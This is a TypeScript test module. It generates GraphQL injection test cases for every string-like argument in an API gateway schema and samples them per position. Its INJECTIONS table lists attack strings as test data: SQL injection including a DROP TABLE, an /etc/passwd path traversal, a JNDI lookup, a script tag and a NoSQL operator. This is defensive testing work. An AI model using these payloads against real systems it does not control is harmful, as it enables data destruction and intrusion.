// Injection cases generated from the API schema (gateway/schema.graphql): every string-like argument position
// (String, ID and string scalars such as Date, at any depth of input objects and lists, on root fields and on fields
// reachable from them) receives injection strings. The positions grow by themselves as subgraphs land; to keep the
// run bounded, `sampleInjections` sends each position a fixed number of the strings, chosen from the position's name
// (so the choice is the same on every run and does not shift when other positions are added), rotating through all
// of them across positions so every string still reaches many positions.
import fs from 'node:fs';
import {
  buildSchema,
  getNamedType,
  getNullableType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLObjectType,
  type GraphQLSchema,
} from 'graphql';

export const SCHEMA_FILE = new URL('../../gateway/schema.graphql', import.meta.url);

/** Strings that have broken SQL, LIKE patterns, templates, paths or parsers elsewhere. */
export const INJECTIONS: Record<string, string> = {
  'sql quote': "' OR '1'='1",
  'sql stacked': "x'; DROP TABLE organizations; --",
  'sql comment': 'iom" --',
  'sql sleep': "1' AND pg_sleep(5) IS NULL AND '1'='1",
  'like wildcards': '%_%\\',
  'nul byte': 'io\u0000m',
  'path traversal': '../../../../etc/passwd',
  'template': '${jndi:ldap://example.org/a}{{7*7}}',
  'html': '<script>alert(1)</script>',
  'unicode': '\u202Eiom\uD800\uFEFF',
  'json object text': '{"$gt": ""}',
};

const NON_STRING_SCALARS = new Set(['Int', 'Float', 'Boolean']);
const isStringLike = (type: GraphQLInputType) => {
  const named = getNamedType(type);
  return isScalarType(named) && !NON_STRING_SCALARS.has(named.name);
};

/** A valid literal for a required input we are not attacking (so the operation reaches the attacked one). */
function dummy(type: GraphQLInputType, depth = 0): string {
  const inner = getNullableType(type) as GraphQLInputType;
  if (isListType(inner)) return `[${dummy(inner.ofType, depth + 1)}]`;
  if (isEnumType(inner)) return inner.getValues()[0].name;
  if (isInputObjectType(inner)) {
    if (depth > 5) return '{}';
    const required = Object.values(inner.getFields()).filter((f) => isNonNullType(f.type) && f.defaultValue === undefined);
    return `{ ${required.map((f) => `${f.name}: ${dummy(f.type, depth + 1)}`).join(', ')} }`;
  }
  switch (inner.name) {
    case 'Int':
    case 'Float':
      return '1';
    case 'Boolean':
      return 'true';
    case 'Date':
      return '"2020-01-01"';
    case 'DateTime':
      return '"2020-01-01T00:00:00.000Z"';
    default:
      return '"x"';
  }
}

interface Slot {
  /** The argument's value with `$v` at the attacked position. */
  literal: string;
  /** e.g. `filter.search` */
  path: string;
  /** The variable's type, e.g. `String!`. */
  variableType: string;
}

/** Every string-like position inside one argument's type, as literals holding `$v` there. */
function slots(type: GraphQLInputType, path: string, depth = 0): Slot[] {
  const inner = getNullableType(type) as GraphQLInputType;
  if (isListType(inner)) return slots(inner.ofType, `${path}[]`, depth + 1).map((s) => ({ ...s, literal: `[${s.literal}]` }));
  if (isStringLike(inner)) return [{ literal: '$v', path, variableType: `${getNamedType(inner).name}!` }];
  if (isInputObjectType(inner) && depth < 5) {
    const fields = Object.values(inner.getFields());
    return fields.flatMap((field) =>
      slots(field.type, `${path}.${field.name}`, depth + 1).map((s) => {
        const others = fields.filter((f) => f !== field && isNonNullType(f.type) && f.defaultValue === undefined);
        const rest = others.map((f) => `${f.name}: ${dummy(f.type)}`);
        return { ...s, literal: `{ ${[`${field.name}: ${s.literal}`, ...rest].join(', ')} }` };
      }),
    );
  }
  return [];
}

const requiredArgs = (field: GraphQLField<unknown, unknown>, except?: GraphQLArgument) =>
  field.args.filter((a) => a !== except && isNonNullType(a.type) && a.defaultValue === undefined).map((a) => `${a.name}: ${dummy(a.type)}`);

const callWith = (field: GraphQLField<unknown, unknown>, args: string[]) => (args.length ? `${field.name}(${args.join(', ')})` : field.name);

export interface InjectionOperation {
  /** `Query.countries(filter.search)` */
  position: string;
  query: string;
  variables: { v: string };
  injection: string;
}

/** One operation per (string-like argument position, injection string). */
export function injectionOperations(schema: GraphQLSchema = buildSchema(fs.readFileSync(SCHEMA_FILE, 'utf8'))): InjectionOperation[] {
  const operations: InjectionOperation[] = [];
  for (const [keyword, root] of [['query', schema.getQueryType()], ['mutation', schema.getMutationType()]] as const) {
    if (!root) continue;
    // Breadth first, so each type's fields are reached by their shortest path; each type is visited once.
    const seen = new Set<string>([root.name]);
    const queue: { type: GraphQLObjectType; path: string[] }[] = [{ type: root, path: [] }];
    while (queue.length) {
      const { type, path } = queue.shift()!;
      for (const field of Object.values(type.getFields())) {
        const named = getNamedType(field.type);
        const selection = isObjectType(named) ? ' { __typename }' : '';
        for (const argument of field.args) {
          for (const slot of slots(argument.type, argument.name)) {
            const call = callWith(field, [`${argument.name}: ${slot.literal}`, ...requiredArgs(field, argument)]);
            let body = `${call}${selection}`;
            for (const outer of [...path].reverse()) body = `${outer} { ${body} }`;
            for (const [name, value] of Object.entries(INJECTIONS)) {
              operations.push({
                position: `${type.name}.${field.name}(${slot.path})`,
                injection: name,
                query: `${keyword} Injected($v: ${slot.variableType}) { ${body} }`,
                variables: { v: value },
              });
            }
          }
        }
        if (keyword === 'query' && isObjectType(named) && !seen.has(named.name)) {
          seen.add(named.name);
          queue.push({ type: named, path: [...path, callWith(field, requiredArgs(field))] });
        }
      }
    }
  }
  return operations;
}

/** FNV-1a: a stable hash of a position's name, so its sample does not depend on where it sits in the schema. */
function hash(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 0x01000193) >>> 0;
  return h;
}

/**
 * `perPosition` of the injection strings for every position (all of them when `perPosition` is at least their
 * number): every argument position stays covered, the request count grows with positions only, not with strings.
 */
export function sampleInjections(operations: InjectionOperation[], perPosition: number): InjectionOperation[] {
  const names = Object.keys(INJECTIONS);
  const take = Math.min(perPosition, names.length);
  const byPosition = new Map<string, InjectionOperation[]>();
  for (const o of operations) byPosition.set(o.position, [...(byPosition.get(o.position) ?? []), o]);
  const sample: InjectionOperation[] = [];
  for (const [position, ops] of byPosition) {
    const start = hash(position) % names.length;
    // Evenly spaced from a position-specific start, so two strings of one position are never neighbours in the list.
    const chosen = new Set(Array.from({ length: take }, (_, k) => names[(start + Math.floor((k * names.length) / take)) % names.length]));
    sample.push(...ops.filter((o) => chosen.has(o.injection)));
  }
  return sample;
}
